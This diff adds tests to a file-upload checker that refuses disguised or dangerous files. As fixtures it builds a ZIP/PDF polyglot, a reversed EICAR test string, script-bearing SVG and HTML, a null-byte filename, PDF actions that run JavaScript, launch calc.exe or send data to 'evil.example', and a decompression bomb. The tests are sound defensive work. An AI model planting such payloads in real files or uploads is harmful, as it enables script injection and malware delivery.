@@ -135,6 +135,125 @@ test('a PDF that would unfold to gigabytes is given up, and the next file is rea
   assert.equal(await refusal(await pdf()), 'application/pdf')
 })
 
+/** An archive of one empty file, behind whatever stands before it. */
+function archive(before: Uint8Array): Buffer {
+  const name = Buffer.from('a.exe')
+  const local = Buffer.concat([Buffer.from('504b0304', 'hex'), Buffer.alloc(22), Buffer.from([5, 0, 0, 0]), name])
+  const entry = Buffer.concat([
+    Buffer.from('504b0102', 'hex'),
+    Buffer.alloc(24),
+    Buffer.from([5, 0]),
+    Buffer.alloc(16),
+    name,
+  ])
+  const end = Buffer.alloc(22)
+  end.write('PK\u0005\u0006', 'latin1')
+  end.writeUInt16LE(1, 10)
+  end.writeUInt32LE(entry.length, 12)
+  end.writeUInt32LE(before.length + local.length, 16)
+  return Buffer.concat([before, local, entry, end])
+}
+
+test('a file that is an archive as well is refused, whichever of the two it says it is', async () => {
+  const paper = await pdf()
+  const trailer = Buffer.from('\nstartxref\n0\n%%EOF\n')
+  const both = archive(paper)
+  both.writeUInt16LE(trailer.length, both.length - 2)
+  for (const name of ['a.pdf', 'a', 'a.zip', 'a.jar'])
+    assert.equal(await refusal(Buffer.concat([both, trailer]), { name }), 'file-not-what-it-says', name)
+  assert.equal(await refusal(archive(png(2, 2))), 'file-not-what-it-says')
+  assert.equal(await refusal(archive(jpeg(2, 2))), 'file-not-what-it-says')
+  assert.equal(await refusal(paper), 'application/pdf')
+})
+
+test('a program, the test virus, a drawing that runs and a page of the web are refused, whatever their names and types say [S3A-4.4]', async () => {
+  const drawing = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
+  const web = Buffer.from('<!doctype html><script>alert(1)</script>')
+  const program = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')
+  // The standard test virus, turned around here so that no scanner takes this file for one.
+  const turned = '*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\\4[PA@%P!O5X'
+  const virus = Buffer.from([...turned].toReversed().join(''), 'latin1')
+  for (const bytes of [program, virus, drawing, web, Buffer.concat([Buffer.from('\ufeff'), drawing])]) {
+    for (const said of [
+      {},
+      { name: 'a.svg' },
+      { name: 'a.html' },
+      { name: 'a.pdf' },
+      { name: 'a.png\0.svg' },
+      { mediaType: 'image/png' },
+    ])
+      assert.match(await refusal(bytes, said), /^file-(kind-refused|not-what-it-says)$/, JSON.stringify(said))
+  }
+})
+
+test('a photo with two sizes is no photo: it cannot hide a huge one behind a small one', async () => {
+  const [huge, small] = [jpeg(60_000, 60_000), jpeg(1, 1)]
+  const frame = (file: Buffer) => file.subarray(20, 33)
+  const both = Buffer.concat([huge.subarray(0, 33), frame(small), huge.subarray(33)])
+  assert.equal(await refusal(huge), 'image-too-large')
+  assert.equal(await refusal(both), 'file-not-what-it-says')
+})
+
+/** A PDF written by hand: its catalogue is object 1, and it says of itself what it likes. */
+function handmade(objects: readonly string[], size = objects.length + 1): Buffer {
+  let text = '%PDF-1.4\n'
+  const places = objects.map((body, at) => {
+    const place = text.length
+    text += `${at + 1} 0 obj\n${body}\nendobj\n`
+    return `${String(place).padStart(10, '0')} 00000 n \n`
+  })
+  const list = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer<</Size ${size}/Root 1 0 R>>\n`
+  return Buffer.from(`${text}${list}startxref\n${text.length}\n%%EOF\n`)
+}
+const tree = (kids: string, count: number) => [
+  '<</Type/Catalog/Pages 2 0 R>>',
+  `<</Type/Pages/Count ${count}/Kids[${kids}]>>`,
+  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>',
+]
+
+test('a PDF that lies about its size is read as what it is, and one of a million pages is refused', async () => {
+  assert.deepEqual(await recognise(handmade(tree('3 0 R', 1_000_000))), {
+    ok: true,
+    value: { mediaType: 'application/pdf', pages: 1, active: false },
+  })
+  assert.equal(await refusal(handmade(tree('3 0 R', 1), 99_999_999)), 'application/pdf')
+  assert.equal(await refusal(handmade(tree('2 0 R', 1))), 'file-not-what-it-says', 'a tree that grows out of itself')
+  assert.equal(await refusal(handmade(tree('3 0 R '.repeat(2_000), 1))), 'application/pdf')
+  assert.equal(await refusal(handmade(tree('3 0 R '.repeat(1_000_000), 1))), 'file-too-many-pages')
+})
+
+test('a PDF that carries another file, an outer link that runs, or a form of scripts is marked', async () => {
+  const active = async (more: string) => {
+    const [catalogue = '', ...rest] = tree('3 0 R', 1)
+    const found = await recognise(handmade([catalogue.replace('>>', `${more}>>`), ...rest]))
+    return found.ok && found.value.active
+  }
+  const carriers = [
+    '/OpenAction<</S/J#61vaScript/JS(app.alert)>>',
+    '/AA<</O<</S/Launch/F(calc.exe)>>>>',
+    '/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/EF<</F 3 0 R>>>>]>>>>',
+    '/AcroForm<</XFA[]>>',
+    '/OpenAction<</S/GoToR/F(//evil.example/a)>>',
+    '/OpenAction<</S/SubmitForm/F(http://evil.example)>>',
+  ]
+  for (const more of carriers) assert.equal(await active(more), true, more)
+  assert.equal(await active('/OpenAction[3 0 R/Fit]'), false, 'where to begin reading')
+})
+
+test('a file that wants endless work holds up nobody else: others are read meanwhile', async () => {
+  const block = deflateSync(Buffer.alloc(8 * 1024 * 1024, 0x20), { finishFlush: constants.Z_FULL_FLUSH })
+  const packed = Buffer.concat([block.subarray(0, 2), ...Array.from({ length: 400 }, () => block.subarray(2))])
+  const head = `%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`
+  const bomb = Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream\nendobj\nstartxref\n0\n%%EOF\n')])
+  const order: string[] = []
+  await Promise.all([refusal(await pdf()), refusal(await pdf())])
+  const hostile = refusal(bomb).then((said) => order.push(said))
+  const paper = await pdf()
+  for (const n of [1, 2, 3]) order.push(`${await refusal(paper)} ${n}`)
+  await hostile
+  assert.deepEqual(order, ['application/pdf 1', 'application/pdf 2', 'application/pdf 3', 'file-not-what-it-says'])
+})
+
 test('no bytes after a known beginning make the reading fail', async () => {
   await fc.assert(
     fc.asyncProperty(
